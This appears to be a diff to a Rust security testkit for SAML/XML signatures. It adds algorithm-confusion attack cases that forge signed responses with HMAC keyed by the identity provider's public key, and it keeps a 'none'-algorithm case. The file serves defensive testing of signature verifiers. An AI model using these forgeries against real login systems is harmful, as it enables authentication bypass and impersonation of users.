@@ -6,9 +6,14 @@ use super::key_substitution::{signed_by_hand, with_signature};
 use super::md5::md5;
 use super::scene::{Made, Scene};
 use super::signature::{Draft, ENVELOPED, EXCLUSIVE, canonical, transforms, x509};
+use super::surgery::{after, root};
 use super::{Attack, Base, Kind};
 use crate::{Signed, TestkitError};
 
+const SECRET: &str = "CVE-2026-15013 (miniOrange)";
+const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
+const HMAC_SHA384: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha384";
+const HMAC_SHA512: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512";
 const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
 const RSA_MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5";
 const MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#md5";
@@ -44,6 +49,47 @@ pub(super) const ATTACKS: &[Attack] = &[
         })
     })
     .known_as("CVE-2009-0217 (XML Signature)"),
+    row("algorithm/hmac-sha1-public-key", "HMAC-SHA1 whose secret is the public key, in DER", |scene| {
+        hmac_by(scene, HMAC_SHA1, DigestAlgorithm::Sha1, certificate(scene).spki_der())
+    })
+    .known_as(SECRET),
+    row("algorithm/hmac-sha384-public-key", "HMAC-SHA384 whose secret is the public key, in DER", |scene| {
+        hmac_by(scene, HMAC_SHA384, DigestAlgorithm::Sha384, certificate(scene).spki_der())
+    })
+    .known_as(SECRET),
+    row("algorithm/hmac-sha512-public-key", "HMAC-SHA512 whose secret is the public key, in DER", |scene| {
+        hmac_by(scene, HMAC_SHA512, DigestAlgorithm::Sha512, certificate(scene).spki_der())
+    })
+    .known_as(SECRET),
+    row("algorithm/hmac-modulus", "HMAC whose secret is the modulus of the public key", |scene| {
+        let (modulus, _) = super::der::rsa_numbers(certificate(scene).spki_der()).unwrap_or_default();
+        hmac(scene, &modulus)
+    })
+    .known_as(SECRET),
+    row(
+        "algorithm/hmac-public-key-pem-trimmed",
+        "HMAC whose secret is the public key, in PEM without its last line end",
+        |scene| {
+            let key = scene.target().identity_provider.key();
+            hmac(scene, key.private_key().public_key().to_pem().trim_end().as_bytes())
+        },
+    )
+    .known_as(SECRET),
+    row("algorithm/hmac-under-rsa", "the HMAC of the public key under the name of RSA-SHA256", |scene| {
+        let secret = certificate(scene).spki_der();
+        hmac_by(scene, super::signature::RSA_SHA256, DigestAlgorithm::Sha256, secret)
+    })
+    .known_as(SECRET),
+    row("algorithm/hmac-response", "the Response signed by HMAC whose secret is the public key", |scene| {
+        let unsigned = scene.message_about(scene.victim()).sign(Signed::Neither).issue()?.into_xml();
+        let signature = Draft::over(root(&unsigned))?
+            .method(HMAC_SHA256)
+            .key_info(&x509(&[certificate(scene)]))
+            .with_hmac(DigestAlgorithm::Sha256, certificate(scene).spki_der())?;
+        Ok(vec![scene.hostile(after(&unsigned, &["Response", "Issuer"], &signature)?)])
+    })
+    .from(Base::Response)
+    .known_as(SECRET),
     row("algorithm/none", "the algorithm is called none, the value empty", |scene| {
         made(scene, |draft| Ok(draft.method("none").with_value("")))
     }),
@@ -113,7 +159,13 @@ fn certificate<'s>(scene: &'s Scene<'_>) -> &'s vouchsafe_crypto::Certificate {
 }
 
 fn hmac(scene: &Scene<'_>, secret: &[u8]) -> Made {
-    made(scene, |draft| draft.method(HMAC_SHA256).key_info(&x509(&[certificate(scene)])).with_hmac(secret))
+    hmac_by(scene, HMAC_SHA256, DigestAlgorithm::Sha256, secret)
+}
+
+fn hmac_by(scene: &Scene<'_>, method: &str, algorithm: DigestAlgorithm, secret: &[u8]) -> Made {
+    made(scene, |draft| {
+        draft.method(method).key_info(&x509(&[certificate(scene)])).with_hmac(algorithm, secret)
+    })
 }
 
 /// About the victim, with the right digest and any value.
